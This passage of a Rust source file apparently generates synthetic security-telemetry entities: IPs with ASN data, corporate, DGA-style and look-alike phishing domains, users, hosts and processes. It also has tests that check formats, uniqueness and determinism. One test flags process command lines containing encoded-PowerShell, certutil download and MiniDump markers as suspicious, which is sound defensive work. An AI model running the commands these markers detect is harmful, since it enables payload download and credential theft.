    Geo { country: "Hong Kong", cc: "HK", city: "Hong Kong", lat: "22.3193", lon: "114.1694", asn: "132203", org: "Tencent Building, Kejizhongyi Avenue", weight: 2, prefixes: &[(ip4(43, 128, 0, 0), 14), (ip4(119, 28, 0, 0), 16)] },
    Geo { country: "Singapore", cc: "SG", city: "Singapore", lat: "1.3521", lon: "103.8198", asn: "45102", org: "Alibaba (US) Technology Co., Ltd.", weight: 2, prefixes: &[(ip4(47, 74, 0, 0), 15), (ip4(8, 219, 0, 0), 16)] },
    Geo { country: "South Korea", cc: "KR", city: "Seoul", lat: "37.5665", lon: "126.9780", asn: "4766", org: "Korea Telecom", weight: 2, prefixes: &[(ip4(121, 128, 0, 0), 10), (ip4(175, 192, 0, 0), 10)] },
    Geo { country: "Japan", cc: "JP", city: "Tokyo", lat: "35.6762", lon: "139.6503", asn: "4713", org: "NTT Communications Corporation", weight: 2, prefixes: &[(ip4(153, 128, 0, 0), 10), (ip4(114, 144, 0, 0), 12)] },
    Geo { country: "India", cc: "IN", city: "New Delhi", lat: "28.6139", lon: "77.2090", asn: "9498", org: "Bharti Airtel Ltd.", weight: 2, prefixes: &[(ip4(122, 160, 0, 0), 12), (ip4(182, 64, 0, 0), 12)] },
    Geo { country: "India", cc: "IN", city: "Mumbai", lat: "19.0760", lon: "72.8777", asn: "55836", org: "Reliance Jio Infocomm Limited", weight: 2, prefixes: &[(ip4(49, 32, 0, 0), 11), (ip4(157, 32, 0, 0), 12)] },
    Geo { country: "Vietnam", cc: "VN", city: "Hanoi", lat: "21.0278", lon: "105.8342", asn: "45899", org: "VNPT Corp", weight: 2, prefixes: &[(ip4(113, 160, 0, 0), 11), (ip4(14, 160, 0, 0), 11)] },
    Geo { country: "Australia", cc: "AU", city: "Sydney", lat: "-33.8688", lon: "151.2093", asn: "1221", org: "Telstra Limited", weight: 1, prefixes: &[(ip4(101, 160, 0, 0), 11), (ip4(58, 160, 0, 0), 12)] },
];

/// Share of external IPs taken from 203.0.113.0/24 while it has room.
const DOC_IP_PERCENT: u64 = 20;
/// How many of 203.0.113.1-254 the pool uses at most (the rest stay free for hand-written use).
const DOC_IP_MAX: usize = 200;

fn gen_ips(seed: u64, n: usize) -> Pool {
    let key = kind_key(seed, EntityKind::Ip);
    let mut pool = Pool::new(EntityKind::Ip, n, &[13, 12, 2, 9, 7, 8, 5, 20]);
    let mut used: HashSet<u32> = HashSet::new();
    let mut doc_used = 0usize;
    for i in 0..n {
        let mut g = Gen::entity(key, i);
        let mut row = g.weighted(GEOS, |r| r.weight);
        let doc = g.percent(DOC_IP_PERCENT) && doc_used < DOC_IP_MAX;
        let mut tries = 0u32;
        let addr = loop {
            let ip = if doc {
                ip4(203, 0, 113, g.range(1, 254) as u8)
            } else {
                let &(base, len) = g.pick(GEOS[row].prefixes);
                base | (g.below(1u64 << (32 - len)) as u32)
            };
            let last = ip & 0xFF;
            if last != 0 && last != 255 && used.insert(ip) {
                break ip;
            }
            tries += 1;
            if !doc && tries.is_multiple_of(32) {
                // This row's prefixes are crowded (huge pools only): try the next row.
                row = (row + 1) % GEOS.len();
            }
        };
        let geo = &GEOS[row];
        if doc {
            doc_used += 1;
        }
        let c = &mut pool.cols;
        push_ipv4(&mut c[0].data, addr);
        c[0].end();
        c[1].push(geo.country);
        c[2].push(geo.cc);
        c[3].push(geo.city);
        c[4].push(geo.lat);
        c[5].push(geo.lon);
        c[6].push(geo.asn);
        c[7].push(geo.org);
    }
    pool.check_complete();
    pool
}

// ---------------------------------------------------------------------------------------------
// Domains
// ---------------------------------------------------------------------------------------------

/// A registered domain and the kind of host names seen under it.
struct DomainBase {
    base: &'static str,
    weight: u32,
    subs: &'static [&'static str],
    /// Some names carry a cloud region label (`api.eu-west-1.example.net`).
    regional: bool,
}

/// The company's own services.
#[rustfmt::skip]
const CORP_SUBS: &[&str] = &[
    "login", "sso", "mail", "autodiscover", "vpn", "portal", "intranet", "www", "wiki", "jira",
    "confluence", "git", "hr", "payroll", "support", "helpdesk", "files", "remote", "owa", "adfs",
    "crm", "status", "dev", "staging",
];
/// CDN, update and telemetry endpoints.
#[rustfmt::skip]
const SERVICE_SUBS: &[&str] = &[
    "cdn", "static", "assets", "img", "media", "update", "updates", "download", "dl", "telemetry",
    "metrics", "api", "edge", "push", "events", "analytics", "ws", "auth", "ocsp", "crl", "time",
    "fonts", "js", "beacon", "collector", "config", "gateway",
];
#[rustfmt::skip]
const ORG_SUBS: &[&str] = &[
    "www", "update", "mirror", "docs", "packages", "repo", "downloads", "forum", "blog", "news",
    "lists", "keys",
];
const PARTNER_SUBS: &[&str] = &[
    "api", "portal", "sftp", "login", "files", "status", "hooks", "app", "secure", "connect", "b2b",
];
const SAAS_SUBS: &[&str] = &[
    "app", "api", "login", "eu", "us", "files", "reports", "admin", "sso", "cdn",
];

#[rustfmt::skip]
const DOMAIN_BASES: &[DomainBase] = &[
    DomainBase { base: "example.com", weight: 20, subs: CORP_SUBS, regional: false },
    DomainBase { base: "example.net", weight: 22, subs: SERVICE_SUBS, regional: true },
    DomainBase { base: "example.org", weight: 12, subs: ORG_SUBS, regional: false },
    DomainBase { base: "partner.example", weight: 8, subs: PARTNER_SUBS, regional: false },
    DomainBase { base: "vendor.example", weight: 6, subs: PARTNER_SUBS, regional: false },
    DomainBase { base: "payroll-saas.example", weight: 4, subs: SAAS_SUBS, regional: false },
    DomainBase { base: "crm-cloud.test", weight: 4, subs: SAAS_SUBS, regional: true },
    DomainBase { base: "cdn-edge.test", weight: 6, subs: SERVICE_SUBS, regional: true },
    DomainBase { base: "files-share.test", weight: 3, subs: PARTNER_SUBS, regional: false },
    DomainBase { base: "metrics-hub.test", weight: 3, subs: SERVICE_SUBS, regional: true },
];

const REGIONS: &[&str] = &[
    "us-east-1",
    "us-west-2",
    "eu-west-1",
    "eu-central-1",
    "ap-southeast-1",
    "ap-northeast-1",
];

/// Registered names a generated-looking (DGA, tunnelling) label sits under.
const DGA_BASES: &[&str] = &["example.test", "update-check.test", "cdn-sync.example"];
/// Look-alike phishing domains.
const LOOKALIKES: &[&str] = &[
    "examp1e-login.test",
    "secure-example.test",
    "example-sso.test",
    "mail-example.test",
    "login-example.example",
];

const DGA_PERCENT: u64 = 4;
const LOOKALIKE_PERCENT: u64 = 2;

fn gen_domains(seed: u64, n: usize) -> Pool {
    let key = kind_key(seed, EntityKind::Domain);
    let mut pool = Pool::new(EntityKind::Domain, n, &[18, 4]);
    let mut used: HashSet<String> = HashSet::new();
    // Name → last number given to a numbered copy of it (cdn2.example.net, cdn3 …).
    let mut numbered: HashMap<String, u32> = HashMap::new();
    let mut name = String::new();
    for i in 0..n {
        let mut g = Gen::entity(key, i);
        let mut tries = 0;
        loop {
            name.clear();
            let class = g.below(100);
            if class < DGA_PERCENT {
                let len = g.range(10, 16);
                name.push((b'a' + g.below(26) as u8) as char);
                for _ in 1..len {
                    let v = g.below(36) as u8;
                    name.push(if v < 26 { b'a' + v } else { b'0' + v - 26 } as char);
                }
                name.push('.');
                name.push_str(g.pick_str(DGA_BASES));
            } else if class < DGA_PERCENT + LOOKALIKE_PERCENT {
                if g.percent(50) {
                    name.push_str(g.pick_str(&["www.", "login.", "mail.", "secure."]));
                }
                name.push_str(g.pick_str(LOOKALIKES));
            } else {
                let b = &DOMAIN_BASES[g.weighted(DOMAIN_BASES, |b| b.weight)];
                name.push_str(g.pick_str(b.subs));
                name.push('.');
                if b.regional && g.percent(20) {
                    name.push_str(g.pick_str(REGIONS));
                    name.push('.');
                }
                name.push_str(b.base);
            }
            if !used.contains(name.as_str()) {
                break;
            }
            tries += 1;
            if tries == 16 {
                // Crowded pool: number the first label of the last draw until it is free.
                let last = numbered.entry(name.clone()).or_insert(1);
                let (first, rest) = name.split_once('.').unwrap_or((name.as_str(), ""));
                let (first, rest) = (first.to_string(), rest.to_string());
                loop {
                    *last += 1;
                    name.clear();
                    let _ = write!(name, "{first}{last}.{rest}");
                    if !used.contains(name.as_str()) {
                        break;
                    }
                }
                break;
            }
        }
        used.insert(name.clone());
        let tld = name.rsplit('.').next().unwrap_or("");
        let c = &mut pool.cols;
        c[0].push(&name);
        c[1].push(tld);
    }
    pool.check_complete();
    pool
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::net::Ipv4Addr;

    fn sizes(n: usize) -> Sizes {
        Sizes {
            user: n,
            host: n,
            process: n,
            ip: n,
            domain: n,
        }
    }

    fn column(p: &Pool, name: &str) -> Vec<String> {
        let a = p.attr_index(name).unwrap();
        (0..p.len()).map(|i| p.get(i, a).to_string()).collect()
    }

    fn assert_unique(p: &Pool, name: &str) {
        let col = column(p, name);
        let set: HashSet<&String> = col.iter().collect();
        assert_eq!(
            set.len(),
            col.len(),
            "{} {name} not unique",
            p.kind().name()
        );
    }

    fn is_hex(s: &str, len: usize, upper: bool) -> bool {
        s.len() == len
            && s.bytes().all(|b| {
                b.is_ascii_digit()
                    || if upper {
                        (b'A'..=b'F').contains(&b)
                    } else {
                        (b'a'..=b'f').contains(&b)
                    }
            })
    }

    fn is_uuid_v4(s: &str) -> bool {
        let parts: Vec<&str> = s.split('-').collect();
        parts.len() == 5
            && [8, 4, 4, 4, 12]
                .iter()
                .zip(&parts)
                .all(|(n, p)| is_hex(p, *n, false))
            && parts[2].starts_with('4')
            && matches!(parts[3].as_bytes()[0], b'8' | b'9' | b'a' | b'b')
    }

    fn in_net(ip: Ipv4Addr, net: [u8; 4], len: u32) -> bool {
        let mask = if len == 0 { 0 } else { u32::MAX << (32 - len) };
        (u32::from(ip) & mask) == (u32::from_be_bytes(net) & mask)
    }

    /// Private, loopback, link-local, CGNAT, multicast and other special-purpose space
    /// (RFC 5737 documentation ranges are allowed and checked separately).
    fn is_special(ip: Ipv4Addr) -> bool {
        const NETS: &[([u8; 4], u32)] = &[
            ([0, 0, 0, 0], 8),
            ([10, 0, 0, 0], 8),
            ([100, 64, 0, 0], 10),
            ([127, 0, 0, 0], 8),
            ([169, 254, 0, 0], 16),
            ([172, 16, 0, 0], 12),
            ([192, 0, 0, 0], 24),
            ([192, 88, 99, 0], 24),
            ([192, 168, 0, 0], 16),
            ([198, 18, 0, 0], 15),
            ([224, 0, 0, 0], 4),
            ([240, 0, 0, 0], 4),
        ];
        NETS.iter().any(|(n, l)| in_net(ip, *n, *l))
    }

    fn is_documentation(ip: Ipv4Addr) -> bool {
        in_net(ip, [192, 0, 2, 0], 24)
            || in_net(ip, [198, 51, 100, 0], 24)
            || in_net(ip, [203, 0, 113, 0], 24)
    }

    #[test]
    fn kinds_names_and_sizes() {
        for k in EntityKind::ALL {
            assert_eq!(EntityKind::parse(k.name()), Some(k));
            assert_eq!(k.to_string(), k.name());
        }
        assert_eq!(EntityKind::parse("users"), None);
        assert_eq!(EntityKind::parse(""), None);
        let d = Sizes::default();
        assert_eq!(
            (d.user, d.host, d.process, d.ip, d.domain),
            (100, 200, 80, 500, 200)
        );
        let mut s = Sizes::default();
        for (i, k) in EntityKind::ALL.into_iter().enumerate() {
            assert_eq!(s.get(k), k.default_size());
            s.set(k, 7 + i);
            assert_eq!(s.get(k), 7 + i);
        }
        assert_eq!(EntityKind::User.attributes().len(), 14);
        assert_eq!(EntityKind::Host.attributes().len(), 8);
        assert_eq!(EntityKind::Process.attributes().len(), 8);
        assert_eq!(EntityKind::Ip.attributes().len(), 8);
        assert_eq!(EntityKind::Domain.attributes(), &["name", "tld"]);
    }

    #[test]
    fn same_seed_same_pools_different_seed_different() {
        let a = Entities::generate(42, &Sizes::default());
        let b = Entities::generate(42, &Sizes::default());
        assert_eq!(a, b);
        let c = Entities::generate(43, &Sizes::default());
        for k in EntityKind::ALL {
            assert_eq!(a.pool(k).len(), k.default_size());
            assert_eq!(a.pool(k).kind(), k);
            assert_ne!(a.pool(k), c.pool(k), "{k} pool ignores the seed");
        }
        assert_ne!(
            column(a.pool(EntityKind::User), "name"),
            column(c.pool(EntityKind::User), "name")
        );
        assert_ne!(
            column(a.pool(EntityKind::User), "sid"),
            column(c.pool(EntityKind::User), "sid")
        );
        assert_ne!(
            column(a.pool(EntityKind::Host), "aid"),
            column(c.pool(EntityKind::Host), "aid")
        );
    }

    #[test]
    fn growing_a_pool_keeps_its_prefix_and_other_pools() {
        let small = Entities::generate(7, &sizes(150));
        let big = Entities::generate(7, &sizes(4000));
        for k in EntityKind::ALL {
            let (s, b) = (small.pool(k), big.pool(k));
            for i in 0..s.len() {
                for a in 0..k.attributes().len() {
                    assert_eq!(s.get(i, a), b.get(i, a), "{k} entity {i} attr {a}");
                }
            }
        }
        // Changing one pool's size leaves every other pool as it was.
        let mut grown = sizes(150);
        grown.user = 900;
        let g = Entities::generate(7, &grown);
        for k in [
            EntityKind::Host,
            EntityKind::Process,
            EntityKind::Ip,
            EntityKind::Domain,
        ] {
            assert_eq!(g.pool(k), small.pool(k));
        }
    }

    #[test]
    fn uniqueness() {
        let e = Entities::generate(1, &sizes(5000));
        let users = e.pool(EntityKind::User);
        for a in ["name", "upn", "sid", "uid", "guid", "puid", "okta_id"] {
            assert_unique(users, a);
        }
        let hosts = e.pool(EntityKind::Host);
        for a in ["name", "lname", "fqdn", "ip", "mac", "aid", "guid"] {
            assert_unique(hosts, a);
        }
        assert_unique(e.pool(EntityKind::Ip), "addr");
        assert_unique(e.pool(EntityKind::Domain), "name");
    }

    #[test]
    fn user_names_collide_into_digits() {
        let users = Entities::generate(
            3,
            &Sizes {
                user: 30_000,
                ..Sizes::default()
            },
        );
        let users = users.pool(EntityKind::User);
        assert_unique(users, "name");
        let names = column(users, "name");
        assert!(
            names.iter().any(|n| n.ends_with('2')),
            "no collision was numbered"
        );
        for (i, n) in names.iter().enumerate() {
            let first = users.get(i, 3).to_ascii_lowercase();
            let last = users.get(i, 4).to_ascii_lowercase();
            let base = format!("{}{last}", &first[..1]);
            let suffix = n
                .strip_prefix(&base)
                .unwrap_or_else(|| panic!("{n} vs {base}"));
            assert!(
                suffix.is_empty() || (suffix.parse::<u32>().unwrap() >= 2),
                "{n}"
            );
        }
    }

    #[test]
    fn attribute_counts_and_attr_index() {
        let e = Entities::generate(9, &Sizes::default());
        for k in EntityKind::ALL {
            let p = e.pool(k);
            for (i, a) in k.attributes().iter().enumerate() {
                assert_eq!(p.attr_index(a), Some(i));
                assert_eq!(p.get_by_name(0, a), Some(p.get(0, i)));
            }
            assert_eq!(p.attr_index("nope"), None);
            assert_eq!(p.attr_index(""), None);
            assert_eq!(p.cols.len(), k.attributes().len());
            for c in &p.cols {
                assert_eq!(c.ends.len(), p.len());
            }
            assert!(!p.is_empty());
        }
        assert_eq!(e.pool(EntityKind::Ip).attr_index("org"), Some(7));
        assert_eq!(e.pool(EntityKind::User).attr_index("egress_ip"), Some(13));
    }

    #[test]
    fn empty_pools() {
        let e = Entities::generate(5, &sizes(0));
        for k in EntityKind::ALL {
            assert!(e.pool(k).is_empty());
            assert_eq!(e.pool(k).len(), 0);
            assert_eq!(e.pool(k).attr_index(k.attributes()[0]), Some(0));
        }
    }

    #[test]
    #[should_panic]
    fn get_out_of_range_entity_panics() {
        let e = Entities::generate(5, &sizes(3));
        e.pool(EntityKind::Host).get(3, 0);
    }

    #[test]
    #[should_panic]
    fn get_out_of_range_attr_panics() {
        let e = Entities::generate(5, &sizes(3));
        e.pool(EntityKind::Domain).get(0, 2);
    }

    #[test]
    fn no_forbidden_characters() {
        let e = Entities::generate(11, &sizes(4000));
        let backslash_ok = ["path", "device_path", "cmdline", "parent_path"];
        for k in EntityKind::ALL {
            let p = e.pool(k);
            for (a, attr) in k.attributes().iter().enumerate() {
                for i in 0..p.len() {
                    let v = p.get(i, a);
                    assert!(!v.is_empty(), "{k}.{attr} empty");
                    assert_eq!(v.trim(), v, "{k}.{attr} padded: {v:?}");
                    assert!(!v.contains('"'), "{k}.{attr} has a quote: {v}");
                    assert!(!v.chars().any(char::is_control), "{k}.{attr}: {v:?}");
                    if k != EntityKind::Process || !backslash_ok.contains(attr) {
                        assert!(!v.contains('\\'), "{k}.{attr} has a backslash: {v}");
                    }
                }
            }
        }
    }

    #[test]
    fn tables_are_clean() {
        for v in VARIANTS {
            assert!(v.weight > 0);
            find_bin(v.bin);
            find_bin(v.parent);
            assert!(
                !v.cmd.contains('"') && !v.cmd.chars().any(char::is_control),
                "{}",
                v.cmd
            );
        }
        for b in BINS {
            assert!(
                b.path.starts_with(r"C:\") && b.path.ends_with(b.name),
                "{}",
                b.path
            );
        }
        assert!(FIRST_NAMES.len() >= 150 && LAST_NAMES.len() >= 150);
        for n in FIRST_NAMES.iter().chain(LAST_NAMES) {
            assert!(
                n.len() >= 2 && n.bytes().all(|b| b.is_ascii_alphabetic()),
                "{n}"
            );
        }
        assert!(GEOS.len() >= 30);
        for g in GEOS {
            for &(base, len) in g.prefixes {
                assert_eq!(
                    base & !(u32::MAX << (32 - len)),
                    0,
                    "{} prefix not aligned",
                    g.org
                );
                let first = Ipv4Addr::from(base);
                let last = Ipv4Addr::from(base | !(u32::MAX << (32 - len)));
                assert!(
                    !is_special(first) && !is_special(last),
                    "{} {first}/{len}",
                    g.org
                );
                assert!(!is_documentation(first) && !is_documentation(last));
            }
        }
    }

    #[test]
    fn ips_are_public() {
        let e = Entities::generate(13, &sizes(5000));
        let ips = e.pool(EntityKind::Ip);
        let mut doc = 0;
        for i in 0..ips.len() {
            let ip: Ipv4Addr = ips.get(i, 0).parse().unwrap();
            assert!(!is_special(ip), "{ip}");
            assert!(!ip.is_private() && !ip.is_loopback() && !ip.is_link_local());
            assert!(!ip.is_multicast() && !ip.is_broadcast() && !ip.is_unspecified());
            let o = ip.octets();
            assert!(o[3] != 0 && o[3] != 255, "{ip}");
            if is_documentation(ip) {
                assert!(in_net(ip, [203, 0, 113, 0], 24), "{ip}");
                doc += 1;
            }
            for a in [4, 5] {
                let v = ips.get(i, a);
                let (_, frac) = v.split_once('.').unwrap();
                assert_eq!(frac.len(), 4, "{v}");
                v.parse::<f64>().unwrap();
            }
            assert!(ips.get(i, 6).bytes().all(|b| b.is_ascii_digit()));
            assert_eq!(ips.get(i, 2).len(), 2);
        }
        assert!(doc > 0 && doc <= DOC_IP_MAX, "{doc}");
        // Users egress only from documentation space; hosts live in RFC 1918 space.
        let users = e.pool(EntityKind::User);
        for i in 0..users.len() {
            let ip: Ipv4Addr = users.get(i, 13).parse().unwrap();
            assert!(
                in_net(ip, [198, 51, 100, 0], 24) || in_net(ip, [192, 0, 2, 0], 24),
                "{ip}"
            );
        }
        let hosts = e.pool(EntityKind::Host);
        for i in 0..hosts.len() {
            let ip: Ipv4Addr = hosts.get(i, 3).parse().unwrap();
            assert!(ip.is_private() && ip.octets()[0] == 10, "{ip}");
        }
    }

    #[test]
    fn user_formats() {
        let e = Entities::generate(17, &sizes(2000));
        let u = e.pool(EntityKind::User);
        let sid0 = u.get(0, 7).rsplit_once('-').unwrap().0.to_string();
        let mut offices = HashSet::new();
        let mut office_users = 0;
        let mut uas = HashSet::new();
        for i in 0..u.len() {
            let name = u.get(i, 0);
            assert!(
                name.bytes()
                    .all(|b| b.is_ascii_lowercase() || b.is_ascii_digit()),
                "{name}"
            );
            assert_eq!(u.get(i, 1), format!("{name}@example.com"));
            assert_eq!(u.get(i, 2), format!("{} {}", u.get(i, 3), u.get(i, 4)));
            assert_eq!(u.get(i, 5), "CORP");
            assert_eq!(u.get(i, 6), "corp.example.com");
            // S-1-5-21-<a>-<b>-<c>-<rid>, one domain per seed.
            let sid = u.get(i, 7);
            let parts: Vec<&str> = sid.split('-').collect();
            assert_eq!(&parts[..4], &["S", "1", "5", "21"], "{sid}");
            assert_eq!(parts.len(), 8, "{sid}");
            assert!(
                parts[4..]
                    .iter()
                    .all(|p| !p.is_empty() && p.parse::<u32>().is_ok()),
                "{sid}"
            );
            assert!(sid.starts_with(&sid0));
            let rid: u64 = parts[7].parse().unwrap();
            assert!(rid >= 1100, "{sid}");
            assert_eq!(u.get(i, 8).parse::<usize>().unwrap(), 1000 + i);
            assert!(is_uuid_v4(u.get(i, 9)), "{}", u.get(i, 9));
            let puid = u.get(i, 10);
            assert!(is_hex(puid, 16, true) && puid.starts_with("1003"), "{puid}");
            let okta = u.get(i, 11);
            assert_eq!(okta.len(), 20);
            assert!(okta.starts_with("00u") && okta.bytes().all(|b| b.is_ascii_alphanumeric()));
            let ua = u.get(i, 12);
            assert!(
                ua.starts_with("Mozilla/5.0 (Windows NT 10.0")
                    || ua.starts_with("Mozilla/5.0 (Macintosh")
            );
            uas.insert(ua);
            let egress = u.get(i, 13);
            if egress.starts_with("198.51.100.") {
                offices.insert(egress);
                office_users += 1;
            }
        }
        assert!((2..=4).contains(&offices.len()), "{offices:?}");
        assert!((1500..1900).contains(&office_users), "{office_users}");
        assert!(uas.len() >= 8);
        // Stable per user: the same entity has the same UA and egress in a bigger pool.
        let big = Entities::generate(17, &sizes(2500));
        assert_eq!(big.pool(EntityKind::User).get(5, 12), u.get(5, 12));
    }

    #[test]
    fn host_formats() {
        let e = Entities::generate(19, &sizes(3000));
        let h = e.pool(EntityKind::Host);
        let mut ws = 0;
        let mut jump = 0;
        let mut linux = 0;
        for i in 0..h.len() {
            let name = h.get(i, 0);
            assert_eq!(h.get(i, 1), name.to_ascii_lowercase());
            assert_eq!(h.get(i, 2), format!("{}.corp.example.com", h.get(i, 1)));
            let ip: Ipv4Addr = h.get(i, 3).parse().unwrap();
            let os = h.get(i, 6);
            if let Some(num) = name.strip_prefix("WS-") {
                assert_eq!(num.len(), 4, "{name}");
                assert!(num.bytes().all(|b| b.is_ascii_digit()));
                assert!(in_net(ip, [10, 20, 0, 0], 16), "{name} {ip}");
                assert!(os.starts_with("Windows 1"), "{os}");
                ws += 1;
            } else {
                assert!(in_net(ip, [10, 10, 0, 0], 16), "{name} {ip}");
                assert!(!os.starts_with("Windows 1"), "{name} {os}");
                let (_, num) = name.rsplit_once('-').unwrap();
                assert!(
                    num.len() >= 2 && num.bytes().all(|b| b.is_ascii_digit()),
                    "{name}"
                );
                if name.starts_with("JUMP-") || name.starts_with("BASTION-") {
                    jump += 1;
                }
            }
            if os.starts_with("Ubuntu") || os.starts_with("RHEL") {
                linux += 1;
            }
            let mac = h.get(i, 4);
            assert_eq!(mac.len(), 17, "{mac}");
            for (j, part) in mac.split('-').enumerate() {
                assert!(j < 6 && is_hex(part, 2, false), "{mac}");
            }
            assert!(is_hex(h.get(i, 5), 32, false));
            assert!(is_uuid_v4(h.get(i, 7)));
        }
        let share = ws as f64 / h.len() as f64;
        assert!((0.65..0.75).contains(&share), "{share}");
        assert!(jump > 0 && jump < h.len() / 20, "{jump}");
        assert!(linux > 0 && linux < h.len() / 5, "{linux}");
        let names = column(h, "name");
        assert!(names.contains(&"DC-01".to_string()));
    }

    #[test]
    fn workstation_numbers_widen_when_crowded() {
        let e = Entities::generate(
            23,
            &Sizes {
                host: 20_000,
                ..Sizes::default()
            },
        );
        let h = e.pool(EntityKind::Host);
        assert_unique(h, "name");
        assert_unique(h, "ip");
        let five = column(h, "name")
            .iter()
            .filter(|n| n.starts_with("WS-") && n.len() == 8)
            .count();
        assert!(five > 0);
    }

    #[test]
    fn process_formats_and_stable_hashes() {
        let a = Entities::generate(29, &sizes(3000));
        let b = Entities::generate(31, &sizes(3000));
        let mut by_path: HashMap<String, (String, String)> = HashMap::new();
        let mut suspicious = 0;
        for e in [&a, &b] {
            let p = e.pool(EntityKind::Process);
            for i in 0..p.len() {
                let name = p.get(i, 0);
                let path = p.get(i, 1);
                assert!(path.ends_with(&format!(r"\{name}")), "{path}");
                assert_eq!(
                    p.get(i, 2),
                    format!(r"\Device\HarddiskVolume3\{}", &path[3..])
                );
                assert!(p.get(i, 5).ends_with(p.get(i, 4)));
                let (sha, md5) = (p.get(i, 6), p.get(i, 7));
                assert!(is_hex(sha, 64, false) && is_hex(md5, 32, false));
                let prev = by_path
                    .entry(path.to_string())
                    .or_insert((sha.into(), md5.into()));
                assert_eq!((prev.0.as_str(), prev.1.as_str()), (sha, md5), "{path}");
                let cmd = p.get(i, 3);
                assert!(
                    !cmd.contains('{')
                        || cmd.contains("{222A")
                        || cmd.contains("Processid:{")
                        || cmd.contains("{9aa4"),
                    "{cmd}"
                );
                if cmd.contains(" -enc ") || cmd.contains("-urlcache") || cmd.contains("MiniDump") {
                    suspicious += 1;
                }
            }
            for i in 0..BENIGN_HEAD {
                let cmd = p.get(i, 3);
                assert!(
                    VARIANTS
                        .iter()
                        .any(|v| !v.suspicious && (v.cmd == cmd || v.cmd.contains('{')))
                );
                assert!(
                    !cmd.contains(" -enc ") && !cmd.contains("203.0.113."),
                    "{cmd}"
                );
            }
        }
        assert!(suspicious > 0 && suspicious < 6000 / 20, "{suspicious}");
        let distinct: HashSet<&str> = (0..3000)
            .map(|i| a.pool(EntityKind::Process).get(i, 0))
            .collect();
        assert!(distinct.len() > 30);
        // Common benign processes dominate.
        let svchost = column(a.pool(EntityKind::Process), "name")
            .iter()
            .filter(|n| *n == "svchost.exe")
            .count();
        assert!(svchost > 3000 / 10, "{svchost}");
    }

    #[test]
    fn domain_formats() {
        let e = Entities::generate(37, &sizes(3000));
        let d = e.pool(EntityKind::Domain);
        for i in 0..d.len() {
            let name = d.get(i, 0);
            assert_eq!(Some(d.get(i, 1)), name.rsplit('.').next());
            assert!(
                ["com", "net", "org", "test", "example"].contains(&d.get(i, 1)),
                "{name}"
            );
            if ["com", "net", "org"].contains(&d.get(i, 1)) {
                assert!(
                    name.ends_with(".example.com")
                        || name.ends_with(".example.net")
                        || name.ends_with(".example.org"),
                    "{name}"
                );
            }
            assert!(name.split('.').count() >= 2, "{name}");
            for label in name.split('.') {
                assert!(!label.is_empty() && label.len() <= 63, "{name}");
                assert!(
                    label
                        .bytes()
                        .all(|b| b.is_ascii_lowercase() || b.is_ascii_digit() || b == b'-'),
                    "{name}"
                );
                assert!(!label.starts_with('-') && !label.ends_with('-'), "{name}");
            }
        }
    }

    #[test]
    fn perm48_is_injective_on_a_sample() {
        let mut seen = HashSet::new();
        for i in 0..200_000u64 {
            assert!(seen.insert(perm48(i, 0x1234_5678_9abc_def0)));
            assert!(perm48(i, 99) < 1 << 48);
        }
    }
}
